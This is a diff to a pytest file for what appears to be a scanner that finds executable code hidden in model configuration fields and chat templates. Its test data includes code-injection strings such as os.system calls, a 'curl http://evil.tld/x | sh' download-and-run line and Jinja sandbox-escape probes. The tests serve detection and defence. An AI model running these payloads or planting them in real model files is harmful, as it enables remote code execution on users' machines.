@@ -7,6 +7,7 @@ import pytest
 from modelward.formats.chat_template_facts import TemplateEscape
 from modelward.formats.config import CodeReference, findings
 from modelward.formats.facts import EmbeddedCode
+from modelward.formats.metadata_code import MetadataCode
 
 
 def found(document: Any) -> list[tuple[type, str]]:
@@ -93,7 +94,7 @@ def test_code_of_another_repository_is_marked() -> None:
     [
         ({"chat_template": "{{ x.__class__ }}"}, "/chat_template"),
         ({"chat_template": ["{{", "x.__class__ }}"]}, "/chat_template"),
-        ({"chat_template": [{"name": "a", "template": "{{ x.__class__ }}"}]}, "/chat_template/0"),
+        ({"chat_template": [{"name": "a", "template": "{{ x.__class__ }}"}]}, "/chat_template/0/template"),
         ({"chat_template": {"a": "{{ x.__class__ }}"}}, "/chat_template/a"),
     ],
 )
@@ -109,3 +110,50 @@ def test_deep_and_circular_documents_end() -> None:
     circle: dict[str, Any] = {}
     circle["self"] = circle
     assert found(circle) == []
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("post_load_hook", "__import__('os').system('id')"),
+        ("command", "curl http://evil.tld/x | sh"),
+        ("preprocess_fn", "lambda x: __import__('os').system('id')"),
+        ("restore_fn", "eval"),
+        ("loader", "os.system"),
+        ("payload", "jax.experimental.host_callback.call(os.system, 'id')"),
+    ],
+)
+def test_program_in_a_field_for_code_is_noticed(key: str, value: str) -> None:
+    found = list(findings({"model": {key: value}}))
+    assert [(type(fact), fact.where) for fact in found] == [(MetadataCode, f"/model/{key}")]
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("description", "__import__('os').system('id')"),
+        ("command", "python train.py --epochs 3"),
+        ("hidden_fn", "gelu"),
+        ("loader", "torch.utils.data.DataLoader"),
+        ("command", "eval"),
+    ],
+)
+def test_words_and_known_functions_in_fields_are_data(key: str, value: str) -> None:
+    assert list(findings({key: value})) == []
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"chat_template": [[{"name": "a", "template": "{{ ''.__class__ }}"}]]},
+        {"chat_templates": {"a": {"b": "{{ ''.__class__ }}"}}},
+        {"prompt_template": "{{ ''.__class__ }}"},
+        {"template": ["{{ ''", ".__class__ }}"]},
+    ],
+)
+def test_templates_under_other_keys_reach_out(document: dict[str, Any]) -> None:
+    assert [type(fact) for fact in findings(document)] == [TemplateEscape]
+
+
+def test_format_strings_under_other_keys_are_no_templates() -> None:
+    assert list(findings({"prompt_template": "{{ {% name }} if 'x' in messages"})) == []
